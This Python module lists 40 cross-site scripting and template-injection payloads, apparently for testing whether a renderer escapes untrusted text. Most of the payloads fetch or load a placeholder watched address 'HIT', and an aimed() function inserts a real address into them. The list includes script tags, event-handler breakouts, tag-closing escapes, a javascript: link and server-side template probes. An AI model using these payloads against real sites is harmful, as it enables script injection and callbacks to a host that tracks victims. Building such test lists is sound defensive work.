"""Texts that would do something if a page took them for more than texts; HIT stands for an address that is watched."""

from __future__ import annotations

PAYLOADS = (
    "<script>fetch('HIT')</script>",
    "<SCRIPT SRC=HIT></SCRIPT>",
    "<img src=HIT onerror=fetch('HIT')>",
    "<img src=x onerror=\"location='HIT'\">",
    "<svg onload=fetch('HIT')>",
    "<svg><script>fetch('HIT')</script></svg>",
    "<svg><animate onbegin=fetch('HIT') attributeName=x dur=1s>",
    "<iframe src=HIT></iframe>",
    "<iframe srcdoc=\"<script>fetch('HIT')</script>\">",
    "<object data=HIT></object>",
    "<embed src=HIT>",
    "<link rel=stylesheet href=HIT>",
    "<style>@import 'HIT';</style>",
    "<style>body{background:url(HIT)}</style>",
    "<meta http-equiv=refresh content='0;url=HIT'>",
    "<base href=HIT>",
    "<form action=HIT><input autofocus onfocus=submit()></form>",
    "<body onload=fetch('HIT')>",
    "<video src=HIT autoplay onerror=fetch('HIT')>",
    "<audio src=HIT autoplay>",
    "<details open ontoggle=fetch('HIT')>",
    "<marquee onstart=fetch('HIT')>",
    "<input onfocus=fetch('HIT') autofocus>",
    "<a href=\"javascript:fetch('HIT')\">here</a>",
    "\" onmouseover=fetch('HIT') x=\"",
    "' onfocus=fetch('HIT') autofocus tabindex=1 x='",
    "\"><script>fetch('HIT')</script>",
    "'><img src=HIT>",
    "</title><script>fetch('HIT')</script>",
    "</style><script>fetch('HIT')</script>",
    "</pre></details><script>fetch('HIT')</script>",
    "--><script>fetch('HIT')</script><!--",
    "]]><script>fetch('HIT')</script>",
    "{{ 7 * 7 }} {% import 'os' %}",
    "{{ ''.__class__.__mro__ }}",
    "${alert(1)} $\\frac{1}{0}$ \\href{HIT}",
    "&lt;script&gt;fetch('HIT')&lt;/script&gt;",
    "&#60;script&#62;fetch('HIT')&#60;/script&#62;",
    "\u202e<script>fetch('HIT')</script>\u2066",
    "<math><mtext><img src=HIT></mtext></math>",
)
assert len(PAYLOADS) == 40


def aimed(hit: str) -> list[str]:
    """The payloads with the address in them."""
    return [payload.replace("HIT", hit) for payload in PAYLOADS]
